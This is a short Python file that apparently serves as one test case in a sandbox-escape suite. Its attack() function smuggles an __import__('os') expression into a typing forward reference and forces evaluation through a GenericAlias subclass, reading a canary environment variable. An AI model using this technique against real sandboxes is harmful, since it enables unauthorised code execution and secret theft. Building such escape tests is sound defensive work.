"""No app makes a forward reference evaluate itself through something that forwards its methods."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("types", "typing")


import types
import typing


class Alias(types.GenericAlias):
    pass


def attack():
    reference = typing.get_args(typing.List["(0, __import__('os').environ['VAAS_CANARY'])[1].join"])[0]
    join = Alias(reference, (int,))._evaluate({}, {}, recursive_guard=frozenset())
    return "ESCAPED: " + join(["", ""])
